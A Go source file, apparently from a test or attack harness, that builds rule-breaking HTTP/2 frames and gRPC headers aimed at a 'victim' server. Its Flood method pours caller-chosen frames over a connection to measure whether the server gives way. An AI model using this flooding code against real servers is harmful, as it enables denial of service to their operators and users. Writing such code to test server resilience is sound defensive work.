package attack

import (
	"encoding/binary"
	"io"
	"net"
	"time"
)

// FrameKind is the type of a frame of HTTP/2.
type FrameKind byte

// The types of frames, as RFC 9113 numbers them.
const (
	FrameData         FrameKind = 0
	FrameHeaders      FrameKind = 1
	FramePriority     FrameKind = 2
	FrameReset        FrameKind = 3
	FrameSettings     FrameKind = 4
	FramePing         FrameKind = 6
	FrameWindow       FrameKind = 8
	FrameContinuation FrameKind = 9
)

// Flags of frames.
const (
	EndStream  = 1 // of FrameData and FrameHeaders
	EndHeaders = 4 // of FrameHeaders and FrameContinuation
)

// AppendFrame appends a frame of HTTP/2 to b. The frame may break any rule of the protocol.
func AppendFrame(b []byte, kind FrameKind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), byte(kind), flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// CallHeaders returns the header block of a gRPC call of the given method, of at most 126 bytes.
func CallHeaders(method string) []byte {
	b := append([]byte{0x83, 0x86, 0x04, byte(len(method))}, method...) // POST, http, :path
	b = append(append(b, 0x01, 6), "victim"...)                         // :authority
	b = append(append(b, 0x0f, 0x10, 16), "application/grpc"...)        // content-type
	return append(append(append(b, 0x00, 2), "te"...), "\x08trailers"...)
}

// Flood speaks HTTP/2 on a connection whose greeting was for calls. It sends what next returns, for
// the turns 0, 1 and so on, until next returns nothing, the other side ends the connection, or d
// has passed. It discards what it is told. It returns the turns that were sent, and whether the
// other side ended the connection. Flood closes the connection.
func (c *Conn) Flood(d time.Duration, next func(turn int) []byte) (turns int, ended bool) {
	_ = c.SetDeadline(time.Now().Add(d))
	defer c.Close()
	over := make(chan struct{})
	go func() {
		defer close(over)
		_, err := io.Copy(io.Discard, c.in)
		late, is := err.(net.Error) //nolint:errorlint // crypto/tls and net return it unwrapped
		ended = !is || !late.Timeout()
	}()
	_, err := io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+string(AppendFrame(nil, FrameSettings, 0, 0, nil)))
	for b := next(0); err == nil && len(b) > 0; b = next(turns) {
		if _, err = c.Write(b); err == nil {
			turns++
		}
	}
	if err == nil {
		_ = c.SetReadDeadline(time.Now().Add(time.Second)) // for an answer to the last frames
	}
	<-over
	return turns, ended
}
